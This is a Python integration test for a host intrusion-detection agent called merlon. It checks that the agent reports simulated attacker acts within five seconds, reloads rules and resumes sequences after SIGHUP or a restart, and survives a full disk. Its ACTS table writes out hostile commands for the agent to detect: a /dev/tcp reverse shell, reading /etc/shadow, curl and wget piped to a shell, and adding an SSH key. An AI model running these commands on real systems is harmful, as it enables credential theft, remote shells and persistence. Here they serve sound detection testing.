"""The live agent from the command line: acts in another process become stories, rules are read again
without losing events, a full disk stops nothing, a signal stops it cleanly."""
import http.server
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import tap  # noqa: E402

MERLON = sys.argv[1]
WITHIN_S = 5
ACTS = {
    "reading /etc/shadow by a shell's child": ("sh -c 'cat /etc/shadow >/dev/null; :'", "T1003.008"),
    "a reverse shell over /dev/tcp": ("bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'", "T1059.004"),
    "a download piped to a shell": ("bash -c 'curl -s file:///dev/null | sh'", "T1105"),
    "curl from a server, piped to sh": ("bash -c 'curl -fsSL http://127.0.0.1:{port}/ | sh'", "T1105"),
    "wget from a server, piped to bash": ("bash -c 'wget -qO- http://127.0.0.1:{port}/ | bash'", "T1105"),
    "curl piped to sh, typed at a prompt": ("echo 'curl -fsSL http://127.0.0.1:{port}/ | sh' | script -qc 'bash -i' /dev/null",
                                            "T1059.004"),
    "an ssh key added": ("bash -c 'echo ssh-ed25519 AAAA >> {dir}/.ssh/authorized_keys'", "T1098.004"),
}


class Agent:
    """An agent with a directory of its own, its standard output read line by line."""

    def __init__(self, *arguments, command="up", data=None):
        self.data = data or tempfile.mkdtemp(prefix="merlon-test-")
        self.lines, self.errors = [], []
        self.process = subprocess.Popen([MERLON, command, "--data", self.data, *arguments], text=True,
                                        stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        for stream, into in ((self.process.stdout, self.lines), (self.process.stderr, self.errors)):
            threading.Thread(target=self.collect, args=(stream, into), daemon=True).start()
        tap.wait_for(lambda: self.status() or self.process.poll() is not None, 30)

    @staticmethod
    def collect(stream, into):
        for line in stream:
            into.append((time.monotonic(), line))

    def status(self):
        run = subprocess.run([MERLON, "status", "--json", "--data", self.data], capture_output=True, text=True)
        return json.loads(run.stdout) if run.returncode == 0 else None

    def text(self):
        return "".join(line for _, line in self.lines)

    def events(self):
        with open(os.path.join(self.data, "events.ndjson")) as events:
            return [json.loads(line) for line in events]

    def stop(self):
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            self.process.wait(20)
        return self.process.returncode

    def clean(self):
        self.stop()
        shutil.rmtree(self.data, ignore_errors=True)


class Script(http.server.BaseHTTPRequestHandler):
    """Answers everything with a program that does nothing."""

    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"true\n")

    def log_message(self, *_):
        pass


def serve():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Script)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address[1]


def stories():
    agent = Agent()
    work = tempfile.mkdtemp(prefix="merlon-acts-")
    os.mkdir(os.path.join(work, ".ssh"))
    acts = {name: act for name, act in ACTS.items() if "wget " not in act[0] or shutil.which("wget")}
    if len(acts) < len(ACTS):
        tap.skip("wget from a server, piped to bash", "no wget here")
    port = serve()
    if shutil.which("crontab"):
        acts["a crontab edit"] = ("bash -c 'EDITOR=true crontab -e </dev/null; crontab -l'", "T1053.003")
    else:
        tap.skip("a crontab edit is told within 5 s", "no crontab here")
    for name, (command, technique) in acts.items():
        before = len(agent.text())
        subprocess.run(command.format(dir=work, port=port), shell=True, capture_output=True, start_new_session=True)
        told = tap.wait_for(lambda: technique in agent.text()[before:], WITHIN_S)
        tap.check(f"{name} is told within {WITHIN_S} s", told, agent.text()[before:])
    shutil.rmtree(work)
    tap.check("SIGTERM stops it cleanly", agent.stop() == 0, "".join(line for _, line in agent.errors))
    kinds = {event["kind"] for event in agent.events()}
    tap.check("alerts and incidents are kept", {"alert", "incident"} <= kinds, str(kinds))
    agent.clean()


def reload_rules():
    rules = tempfile.mkdtemp(prefix="merlon-rules-")

    def write_rule(word):
        with open(os.path.join(rules, "r.yml"), "w") as rule:
            rule.write(f"title: {word}\nid: {word}\nlogsource: {{category: process_creation, product: linux}}\n"
                       f"detection:\n  s:\n    CommandLine|contains: {word}\n  condition: s\n")
    write_rule("merlon-first")
    agent = Agent("--rules", rules, command="agent")
    stop = threading.Event()
    done = []

    def work():
        while not stop.is_set():
            subprocess.run(["/bin/echo", "merlon-first", "merlon-second"], stdout=subprocess.DEVNULL)
            done.append(1)
    worker = threading.Thread(target=work)
    worker.start()
    time.sleep(1)
    write_rule("merlon-second")
    agent.process.send_signal(signal.SIGHUP)
    reloaded = tap.wait_for(lambda: (agent.status() or {}).get("reloads") == 1, 20)
    time.sleep(1)
    stop.set()
    worker.join()
    time.sleep(0.5)
    dropped = (agent.status() or {}).get("dropped")
    agent.stop()
    alerts = [event["rule"]["id"] for event in agent.events() if event["kind"] == "alert"]
    tap.check("SIGHUP reads the rules again", reloaded and {"merlon-first", "merlon-second"} == set(alerts),
              f"{set(alerts)}")
    tap.check("no event is lost by it: each act gives one alert", len(alerts) == len(done) and dropped == 0,
              f"{len(done)} acts, {len(alerts)} alerts, {dropped} dropped")
    agent.clean()
    shutil.rmtree(rules)


SEQUENCE = """
[rule]
id = "merlon-test-sequence"
name = "one after the other"
query = '''
sequence by process.parent.entity_id with maxspan=10m
  [process where event.action == "exec" and process.args : "merlon-first-{tag}"]
  [process where event.action == "exec" and process.args : "merlon-then-{tag}"]
'''
"""


def sequences():
    """A sequence begun is finished, also when the rules are read again or the agent starts again in
    between; one that is not of the same parent is none."""
    folder = tempfile.mkdtemp(prefix="merlon-test-")
    rules = os.path.join(folder, "sequence.toml")
    with open(rules, "w", encoding="utf-8") as file:
        file.write(SEQUENCE.format(tag="x"))

    def act(word):
        subprocess.run(["/bin/sh", "-c", ":", f"merlon-{word}-x"], check=True)

    def alerts():
        return [event for event in agent.events() if event.get("kind") == "alert"]

    agent = Agent("--rules", rules)
    act("first")
    subprocess.run(["/bin/sh", "-c", "/bin/sh -c : merlon-then-x; :"], check=True)  # another parent
    tap.wait_for(lambda: ((agent.status() or {}).get("sequences") or {}).get("partial") == 1, 10)
    agent.process.send_signal(signal.SIGHUP)
    reloaded = tap.wait_for(lambda: (agent.status() or {}).get("reloads") == 1, 20)
    act("then")
    told = tap.wait_for(lambda: len(alerts()) == 1, 10)
    tap.check("a sequence goes on when rules are read again", reloaded and told, str(agent.status()))
    tap.check("its alert names both events",
              told and [event["event.action"] for event in alerts()[0]["events"]] == ["exec", "exec"],
              str(alerts()))
    act("first")
    tap.wait_for(lambda: ((agent.status() or {}).get("sequences") or {}).get("partial") == 1, 10)
    agent.stop()
    again = Agent("--rules", rules, data=agent.data)
    act("then")
    told = tap.wait_for(lambda: len(alerts()) == 2, 10)
    tap.check("a sequence goes on when the agent starts again", told, str(again.status()))
    again.clean()
    shutil.rmtree(folder)


def full_disk():
    disk = tempfile.mkdtemp(prefix="merlon-disk-")
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "none", disk], capture_output=True).returncode:
        tap.skip("a full disk loses lines, not the agent", "cannot mount a small disk here")
        os.rmdir(disk)
        return
    try:
        agent = Agent("--store-events", "--output", os.path.join(disk, "out"), command="agent")

        def lost():
            subprocess.run(["sh", "-c", "for i in 1 2 3 4 5 6 7 8 9; do /bin/true; done"])
            return (agent.status() or {}).get("lines_lost", 0) > 0
        tap.check("a full disk loses lines, not the agent", tap.wait_for(lost, 30), str(agent.status()))
        before = (agent.status() or {}).get("events", 0)
        subprocess.run(["/bin/true"])
        time.sleep(0.5)
        tap.check("sensing goes on", (agent.status() or {}).get("events", 0) > before)
        with open(os.path.join(disk, "out")) as out:
            whole = all(line.endswith("\n") and json.loads(line) for line in out)
        tap.check("what was written is whole lines", whole)
        said = "".join(line for _, line in agent.errors)
        tap.check("it is said", "lines are lost" in said, said)
        agent.clean()
    finally:
        subprocess.run(["umount", disk])
        os.rmdir(disk)


def wait_until_ready(data):
    tap.wait_for(lambda: subprocess.run([MERLON, "status", "--data", data], capture_output=True).returncode == 0, 30)
    time.sleep(0.5)


def record():
    recording = tempfile.mktemp(prefix="merlon-recording-")
    data = tempfile.mkdtemp(prefix="merlon-test-")
    recorder = subprocess.Popen([MERLON, "record", "--data", data, recording], stderr=subprocess.DEVNULL)
    wait_until_ready(data)
    subprocess.run(["sh", "-c", "cat /etc/shadow > /dev/null; :"])
    time.sleep(1)
    recorder.terminate()
    recorder.wait(30)
    runs = [subprocess.run([MERLON, "replay", "--json", recording], capture_output=True, text=True).stdout for _ in (1, 2)]
    same = [re.sub(r'"(seconds|events_per_second)":[^,]*,', "", run) for run in runs]
    tap.check("a recording replays to the alert", "T1003.008" in runs[0], runs[0][-500:])
    tap.check("a second replay prints the same", same[0] == same[1])
    os.unlink(recording)


def record_and_reload():
    data = tempfile.mkdtemp(prefix="merlon-test-")
    recording = os.path.join(data, "recording")
    recorder = subprocess.Popen([MERLON, "record", "--data", data, recording], stderr=subprocess.PIPE, text=True)
    wait_until_ready(data)
    recorder.send_signal(signal.SIGHUP)
    time.sleep(1)
    recorder.terminate()
    said = recorder.communicate(timeout=30)[1]
    tap.check("SIGHUP leaves a recording alone", recorder.returncode == 0 and "no rules" in said, said)
    shutil.rmtree(data)


def main():
    probe = subprocess.run([MERLON, "agent", "--no-rules", "--for", "1s", "--data", tempfile.mkdtemp(prefix="merlon-test-")],
                           capture_output=True, text=True)
    if os.geteuid() != 0 or probe.returncode != 0:
        tap.skip("the live agent", (probe.stderr.strip().splitlines() or ["needs root"])[-1])
    else:
        stories()
        reload_rules()
        sequences()
        full_disk()
        record()
        record_and_reload()
    tap.done()


main()
